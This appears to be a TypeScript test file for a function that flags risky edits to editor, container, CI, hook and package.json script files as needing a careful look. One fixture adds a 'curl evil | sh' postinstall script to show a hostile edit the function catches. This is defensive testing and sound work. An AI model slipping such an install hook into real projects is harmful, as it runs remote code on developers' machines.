import { strict as assert } from 'node:assert';
import { sensitiveEditReason } from '../../src/tools/sensitiveFiles';

describe('edits that change how the editor or the machine behaves', () => {
  it('marks editor, container, CI and hook files, whatever the change', () => {
    for (const rel of ['.vscode/settings.json', '.vscode/tasks.json', '.VSCODE/launch.json', 'team.code-workspace', 'sub/dir/x.code-workspace', '.devcontainer/devcontainer.json', '.devcontainer.json', '.github/workflows/ci.yml', '.husky/pre-commit']) {
      assert.match(sensitiveEditReason(rel, 'a', 'b') ?? '', /careful look/, rel);
    }
  });

  it('package.json only when its scripts change (or it no longer parses)', () => {
    const pkg = (scripts: Record<string, string>, version = '1.0.0') => JSON.stringify({ name: 'x', version, scripts }, null, 2);
    assert.equal(sensitiveEditReason('package.json', pkg({ test: 'mocha' }), pkg({ test: 'mocha' }, '1.0.1')), null, 'a version bump');
    assert.match(sensitiveEditReason('package.json', pkg({ test: 'mocha' }), pkg({ test: 'mocha', postinstall: 'curl evil | sh' })) ?? '', /scripts/);
    assert.match(sensitiveEditReason('packages/a/package.json', '', pkg({ prepare: 'node x' })) ?? '', /scripts/, 'a new package.json with scripts');
    assert.match(sensitiveEditReason('package.json', pkg({}), '{ broken') ?? '', /scripts/);
  });

  it('leaves ordinary files alone', () => {
    for (const rel of ['src/app.ts', 'README.md', 'docs/vscode/settings.md', 'github/workflows.md', 'src/package.json.ts']) assert.equal(sensitiveEditReason(rel, 'a', 'b'), null, rel);
  });
});
